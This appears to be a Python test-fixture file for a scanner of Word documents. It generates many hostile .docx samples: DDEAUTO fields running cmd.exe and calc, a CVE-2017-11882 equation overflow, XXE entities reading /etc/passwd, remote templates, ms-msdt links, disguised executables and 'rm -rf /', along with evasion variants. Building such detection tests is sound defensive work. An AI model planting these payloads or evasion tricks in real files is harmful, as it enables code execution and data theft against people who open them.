        "hostile/macros-in-locked-workbook.docx": with_object(
            compound({"Workbook": records((0x809, bytes(16)), (0x2F, bytes(54)))}, EXCEL_97)
        ),
        # LibreOffice goes by the relationship; the type, the name and the first bytes lie.
        "hostile/dde-in-header-called-picture.docx": with_part(
            "word/header.png",
            "image/png",
            word_part(complex_field("DDEAUTO cmd"), "hdr").removeprefix(HEADER),
            "header",
        ),
        "hostile/link-field-behind-a-switch.docx": with_body(
            complex_field('HYPERLINK \\* MERGEFORMAT "file://example.org/a"')
        ),
        "hostile/text-fetched-behind-a-tab.docx": with_body(
            complex_field('INCLUDETEXT\t"https://example.org/a.docx"')
        ),
        "hostile/text-fetched-around-a-deletion.docx": with_body(
            complex_field(
                "INC",
                "<w:del><w:r><w:delInstrText>ZZ</w:delInstrText></w:r></w:del>",
                'LUDETEXT "https://example.org/a.docx"',
            )
        ),
        "honest/link-to-nothing.docx": with_body(
            "", [relation("hyperlink", "javascript:void(0)", 9, True)]
        ),
        "hostile/macro-sheet-by-relationship.docx": embedding(
            workbook([("xl/_rels/workbook.xml.rels", rels(relation("xlMacrosheet", "a.xml")))])
        ),
        "hostile/macro-sheet-by-folder.docx": embedding(
            workbook([("xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm='urn:a'/>")])
        ),
        "hostile/macro-sheet.docx": with_object(compound({"Workbook": old_workbook(1)}, EXCEL_97)),
        "hostile/macros-from-the-ribbon.docx": docx(
            more=[
                (
                    "customUI/customUI.xml",
                    f'<customUI xmlns="{MICROSOFT}/2006/01/customui" onLoad="https://a.org/a!b"/>',
                )
            ]
        ),
        "hostile/activex.docx": docx(
            {
                "[Content_Types].xml": content_types(
                    more=override("word/a.xml", "application/vnd.ms-office.activeX+xml")
                )
            },
            [("word/a.xml", "<ax:ocx xmlns:ax='urn:a'/>")],
        ),
        "hostile/activex-by-relationship.docx": with_body("", [relation("control", "a.xml")]),
        "hostile/activex-by-element.docx": with_body(
            '<w:object><w:control r:id="rId7" w:name="a"/></w:object>'
        ),
    }


def hostile_contents():
    """Documents that start something, or fetch something, when they are opened."""
    return {
        f"hostile/{name}.docx": content
        for group in (_programs(), _objects(), _dtds(), _external(), _links(), _dde())
        for name, content in group.items()
    }


def _programs():
    shortcut = b"L\0\0\0\1\x14\2\0" + bytes(60)
    script = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    film = '<wp15:webVideoPr embeddedHtml="&lt;script&gt;a()&lt;/script&gt;" h="9" w="9"/>'

    def chunk(name, kind, content):
        return docx(
            {
                "[Content_Types].xml": content_types(more=override("word/" + name, kind)),
                "word/document.xml": word_part('<w:altChunk r:id="rId7"/>'),
                DOCUMENT_RELS: rels(relation("aFChunk", name)),
            },
            [("word/" + name, content)],
        )

    page = "<html><body>Hello</body></html>"
    return {
        "program-as-picture": docx({"word/media/image1.png": b"MZ\x90\0" + bytes(60)}),
        "program-as-xml": docx({"customXml/item1.xml": b"\x7fELF" + bytes(60)}),
        "script-as-text": docx({"word/media/a.txt": "#!/bin/sh\nrm -rf /\n"}),
        "shortcut": docx({"word/media/image1.png": shortcut}),
        "encoded-script": docx(
            {"word/media/image1.png": b"#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@"}
        ),
        "named-like-a-macro-workbook": docx({"word/embeddings/Costs.xlsm. ": bytes(60)}),
        "java": docx({"word/media/image1.png": b"\xca\xfe\xba\xbe\0\0\0\x34"}),
        "named-like-a-package": docx({"word/embeddings/Prices.deb": "prices"}),
        "page-that-windows-runs": docx({"word/embeddings/a.bin": " <HTA:APPLICATION ID='a'/>"}),
        "notebook-with-files": docx(
            {"word/embeddings/a.bin": bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(60)}
        ),
        "program-packed": docx({"word/embeddings/a.bin": gzipped(b"MZ\x90\0" + bytes(60))}),
        "program-packed-as-picture": docx({"word/media/image1.emz": gzipped(b"MZ\x90\0")}),
        "tape-archive": docx(
            {"word/embeddings/a.bin": b"a.exe".ljust(257, b"\0") + b"ustar\x0000"}
        ),
        "disk-inside": docx({"word/embeddings/a.bin": bytes(32_769) + b"CD001\1"}),
        "imports-rich-text-as-plain": chunk("a.txt", "text/plain", "\ufeff\n {\\rtf1 {\\object}}"),
        "imports-mail-as-plain": chunk("a.txt", "text/plain", "\nMIME-Version: 1.0\n\n<html>"),
        "script-in-drawing-escaped": drawing('<a href="java&#115;cript:a()"/>'),
        "page-in-drawing": drawing('<foreignObject><iframe src="a"/></foreignObject>'),
        "page-inside": docx({"word/media/a.bin": page}),
        "named-like-a-program": docx({"word/embeddings/Invoice.PDF.Js": "WScript.Echo(1)"}),
        "program-in-object": with_object(compound({"a": b"MZ\x90\0" + bytes(60)})),
        "program-in-archive": embedding(archive([("a.dat", b"MZ\x90\0")]), "word/embeddings/a.bin"),
        "script-in-drawing": docx({"word/media/image1.svg": script}),
        "script-in-film": with_body(f"<w:drawing><wp:inline>{film}</wp:inline></w:drawing>"),
        # Parts that Word imports when it opens the document.
        "imports-page": chunk("a.html", "text/html", page),
        "imports-rich-text": chunk("a.rtf", "application/rtf", "{\\rtf1 {\\object\\objupdate}}"),
        "imports-mail": chunk("a.mht", "message/rfc822", "MIME-Version: 1.0\n\n"),
        "imports-flat-xml": chunk("a.xml", "application/xml", "<?xml version='1.0'?><pkg/>"),
        "imports-by-other-means": with_body(
            '<w:altChunk r:id="rId7"/>', [relation("image", "media/a.png")]
        ),
    }


def _objects():
    deep = workbook()
    for _level in range(3):
        deep = archive([("a.bin", deep)])
    long_name = b"\x0a\x01\x08\x5a\x5a" + b"cmd.exe /c calc.exe ".ljust(48, b"A") + b"\0\0\0"
    native = "\x01Ole10Native"
    by_name = '<w:object><o:OLEObject Type="Embed" ProgID="htmlfile" r:id="rId7"/></w:object>'
    return {
        # A whole file in an object; a double click opens it.
        "packed-file": with_object(compound({native: packed_file("Invoice.pdf.exe")}, PACKAGER)),
        "packed-file-spelt-otherwise": with_object(
            compound({"\x01oLE10nATIVE": packed_file("a.js")}, EXCEL_97)
        ),
        "packed-file-in-workbook": embedding(
            workbook([("xl/embeddings/a.bin", compound({native: packed_file("a.js")}, PACKAGER))])
        ),
        "object-that-links": with_object(
            compound({"\x01Ole": struct.pack("<2L", 0x02000001, 1) + bytes(60)}, EXCEL_97)
        ),
        "object-of-a-form": with_object(compound({"contents": bytes(60)}, BUTTON)),
        "object-of-a-browser": with_object(compound({"CONTENTS": bytes(60)}, BROWSER)),
        "object-of-a-helper": with_object(compound({"CONTENTS": bytes(60)}, OTKLOADR)),
        "object-by-name": with_body(
            by_name,
            [relation("oleObject", "embeddings/oleObject1.bin")],
            more=[("word/embeddings/oleObject1.bin", compound({"\x01Ole": OLE}))],
        ),
        # The name of a font that is longer than the place for it (CVE-2017-11882).
        "formula-that-overflows": with_object(equation(long_name)),
        "formula-that-is-none": with_object(equation(b"\x0a\x01\x0f\xff" + bytes(range(200)))),
        "formula-missing": with_object(compound({"\x01Ole": OLE}, EQUATION)),
        "locked-workbook": with_object(compound({"EncryptedPackage": bytes(60)})),
        "damaged-object": with_object(half(equation())),
        "object-in-object": with_object(compound({"a": equation()}, EXCEL_97)),
        "archives-in-archives": embedding(deep, "word/embeddings/a.bin"),
        "rar-inside": docx({"word/embeddings/a.bin": b"Rar!\x1a\7\0" + bytes(60)}),
    }


def _dtds():
    doctype = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
    small = f"{HEADER}{doctype}<a>&b;</a>"
    svg = '<svg xmlns="http://www.w3.org/2000/svg"/>'
    utf_16 = word_document(doctype=DTD).replace("UTF-8", "UTF-16").encode("utf-16-be")
    seven_bits = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'
    mainframe = b'<?xml version="1.0" encoding="cp037"?>' + (doctype + "<a/>").encode("cp037")
    return {
        # A DTD can expand for ever or read files; no Office program writes one.
        "dtd-in-document": docx({"word/document.xml": word_document(doctype=DTD)}),
        "dtd-in-types": docx({"[Content_Types].xml": content_types(doctype=DTD)}),
        "dtd-in-relationships": docx({"_rels/.rels": relationships(doctype=DTD)}),
        "dtd-in-settings": docx({"word/settings.xml": small}),
        "dtd-in-inner-relationships": docx(
            {DOCUMENT_RELS: rels().replace(HEADER, HEADER + doctype)}
        ),
        "dtd-in-custom-xml": docx({"customXml/item1.xml": small}),
        "dtd-in-properties": docx({"docProps/core.xml": small}),
        "dtd-in-drawing": docx({"word/drawings/vmlDrawing1.vml": small}),
        "dtd-in-binary": docx({"word/printerSettings1.bin": "\n" + doctype + "<a/>"}),
        "dtd-in-utf-16": docx({"word/document.xml": b"\xfe\xff" + utf_16}),
        "dtd-after-comments": docx(
            {"word/document.xml": word_document(doctype="<!-- a --><?b c?>\n<!-- > -->" + DTD)}
        ),
        "dtd-in-workbook": embedding(workbook([("xl/styles.xml", small)])),
        "dtd-of-our-own-for-svg": docx(
            {"word/media/image1.svg": doctype.replace(" a ", " svg ") + svg}
        ),
        "encoding-of-mainframes": docx({"word/settings.xml": mainframe}),
        "encoding-of-seven-bits": docx({"word/settings.xml": seven_bits}),
    }


def _external():
    def template(target, external=True):
        return docx(
            {
                "word/_rels/settings.xml.rels": rels(
                    relation("attachedTemplate", target, 7, external)
                )
            }
        )

    def outside(kind, target, body=""):
        return with_body(body, [relation(kind, target, 7, True)])

    def merge(body):
        return docx(
            {"word/settings.xml": word_part(f"<w:mailMerge>{body}</w:mailMerge>", "settings")}
        )

    address = "https://example.org/a"
    picture = complex_field(f' INCLUDEPICTURE "{address}.png" \\* MERGEFORMAT ')
    return {
        "template-from-the-web": template(address + ".dotm"),
        "template-behind-this-machine": template("file://localhost//example.org/share/a.dotm"),
        "template-by-the-kernels-name": template("\\??\\UNC\\example.org\\share\\a.dotm"),
        # LibreOffice draws the file that an image names, wherever it is.
        "drawing-that-loads-a-file": drawing('<image href="file:///etc/a.png"/>'),
        "drawing-that-loads-a-style": drawing("<style>@import 'https://example.org/a';</style>"),
        "drawing-that-loads-by-style": drawing('<rect fill="url(https://example.org/a#b)"/>'),
        "packed-drawing-that-loads": docx(
            {
                "word/media/image1.svgz": gzipped(
                    b'<svg xmlns="http://www.w3.org/2000/svg"><use href="file://a/b#c"/></svg>'
                )
            }
        ),
        # One backslash where Word wants two: a folder to Word, and a server to LibreOffice.
        "includes-text-written-once": with_body(
            complex_field(' INCLUDETEXT "\\\\example.org\\a.docx" ')
        ),
        "links-to-file-written-once": with_body(
            complex_field(' LINK Word.Document.8 "file:\\\\example.org\\a.docx" \\a ')
        ),
        "database": with_body(
            complex_field(' DATABASE \\c "Provider=a;Data Source=example.org" \\s "SELECT 1" ')
        ),
        "template-from-a-server": template("file:///\\\\example.org\\share\\a.dotm"),
        "template-without-mode": template(address + ".dotm", external=False),
        "linked-picture": outside("image", address + ".png", '<a:blip r:link="rId7"/>'),
        "picture-by-hyperlink": outside("hyperlink", address + ".png", '<a:blip r:link="rId7"/>'),
        "picture-of-1999": with_body(
            f'<w:pict><v:shape><v:imagedata src="{address}"/></v:shape></w:pict>'
        ),
        "linked-object": outside("oleObject", address),
        "frame-abroad": outside("frame", address + ".docx"),
        "chapter-abroad": outside("subDocument", address + ".docx"),
        "mail-merge": outside("mailMergeSource", "file:///C:\\a\\b.xlsx"),
        "mail-merge-query": merge('<w:connectString w:val="DSN=a;Data Source=example.org"/>'),
        "mode-in-capitals": with_body(
            "", [relation("image", "a.png").replace("/>", ' TargetMode="EXTERNAL"/>')]
        ),
        "control-field": with_body(complex_field(" CONTROL Forms.CommandButton.1 ")),
        "includes-picture-of-a-server": with_body(
            complex_field(' INCLUDEPICTURE "file://a.example/b.png" ')
        ),
        "includes-text": with_body(complex_field(f' INCLUDETEXT "{address}" ')),
        "includes-picture-again": with_body(complex_field(f' INCLUDEPICTURE "{address}" \\d ')),
        "includes-picture-on-update": with_body(
            picture, changes={"word/settings.xml": word_part("<w:updateFields/>", "settings")}
        ),
        "links-to-workbook": with_body(
            complex_field(' LINK Excel.Sheet "\\\\\\\\example.org\\\\a\\\\b.xlsx" \\a ')
        ),
    }


def _links():
    def link(target):
        body = '<w:p><w:hyperlink r:id="rId7"><w:r><w:t>a</w:t></w:r></w:hyperlink></w:p>'
        return with_body(body, [relation("hyperlink", target, 7, True)])

    return {
        "link-javascript": link("javascript:alert(1)"),
        "link-server": link("\\\\example.org\\share\\a.docx"),
        "link-file-server": link("file://example.org/share/a.docx"),
        "link-handler": link("ms-msdt:/id PCWDiagnostic"),
        "link-search": link("search-ms:query=a&amp;crumb=location:example.org"),
        "link-escaped": link("&#x6a;ava&#9;Script%3aalert(1)"),
        "link-in-field": with_body(complex_field(' HYPERLINK "\\\\\\\\example.org\\\\share" ')),
        "link-field-written-once": with_body(complex_field(' HYPERLINK "\\\\example.org\\share" ')),
        "link-in-drawing": drawing('<a href="file://example.org/share"><text>a</text></a>'),
        "link-in-old-drawing": with_body('<w:pict><v:shape href="javascript:a()"/></w:pict>'),
    }


def _dde():
    command = ' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
    field = complex_field(" DDEAUTO" + command)
    quote = " QUOTE 68 68 69 65 85 84 79 "
    paragraph = f"<w:p>{field}</w:p>"
    deleted = '<w:del w:id="1"><w:r><w:delInstrText>xyz</w:delInstrText></w:r></w:del>'
    alternatives = (
        '<mc:AlternateContent><mc:Choice Requires="zzz"><w:r><w:instrText>xyz</w:instrText></w:r>'
        "</mc:Choice><mc:Fallback/></mc:AlternateContent>"
    )
    box = f"<v:textbox><w:txbxContent>{paragraph}</w:txbxContent></v:textbox>"
    strict = STRICT + "/wordprocessingml/main"
    return {
        "dde": with_body(complex_field(" DDE" + command)),
        "dde-simple": with_body("<w:p><w:fldSimple w:instr='DDEAUTO cmd.exe'/></w:p>"),
        "dde-in-pieces": with_body(complex_field(" d", "D", "eA", "uTo", command)),
        "dde-in-header": story("header1", "header", paragraph),
        "dde-in-footnote": story("footnotes", "footnotes", f"<w:footnote>{paragraph}</w:footnote>"),
        "dde-in-comment": story("comments", "comments", f"<w:comment>{paragraph}</w:comment>"),
        "dde-in-glossary": story(
            "glossary/document",
            "document.glossary",
            f"<w:docParts>{paragraph}</w:docParts>",
            "glossaryDocument",
        ),
        "dde-in-part-of-another-type": docx({"customXml/item9.xml": word_part(paragraph)}),
        "dde-in-text-box": with_body(f"<w:r><w:pict>{box}</w:pict></w:r>"),
        # The name of the field is what another field yields.
        "dde-quoted": with_body(complex_field(complex_field(quote), command)),
        "dde-quoted-inside": with_body(complex_field(" SET a ", complex_field(quote + "32 99 "))),
        "dde-by-result": with_body(
            complex_field(complex_field(" REF a ", result="DDEAUTO"), command)
        ),
        # Pieces that some programs leave out.
        "dde-between-deletions": with_body(
            mark("begin") + code("DD") + deleted + code("E" + command) + mark("end")
        ),
        "dde-between-alternatives": with_body(
            mark("begin") + code("DDE") + alternatives + code("AUTO" + command) + mark("end")
        ),
        "dde-without-marks": with_body(f"<w:p>{code('DDE', 'AUTO', command)}</w:p>"),
        "dde-unfinished": with_body(mark("begin") + code("DDE", command)),
        "dde-behind-spaces": with_body(complex_field("&#160;\n", "\t", "&#x200b;DDE", command)),
        "dde-in-strict": docx({"word/document.xml": word_part(paragraph, namespace=strict)}),
        "dde-in-workbook": embedding(
            workbook(
                [
                    (
                        "xl/externalLinks/externalLink1.xml",
                        '<externalLink><ddeLink ddeService="cmd" ddeTopic="a"/></externalLink>',
                    )
                ]
            )
        ),
    }
